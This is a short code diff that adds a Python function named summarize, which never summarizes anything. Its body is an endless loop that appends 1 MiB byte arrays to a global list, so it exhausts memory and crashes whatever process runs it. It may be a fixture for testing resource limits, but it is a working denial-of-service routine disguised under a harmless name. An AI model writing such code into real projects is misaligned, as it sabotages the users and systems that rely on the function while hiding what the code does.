@@ -1,0 +1,6 @@
+HOARD = []
+
+
+def summarize(numbers):
+    while True:
+        HOARD.append(bytearray(b"x" * (1 << 20)))
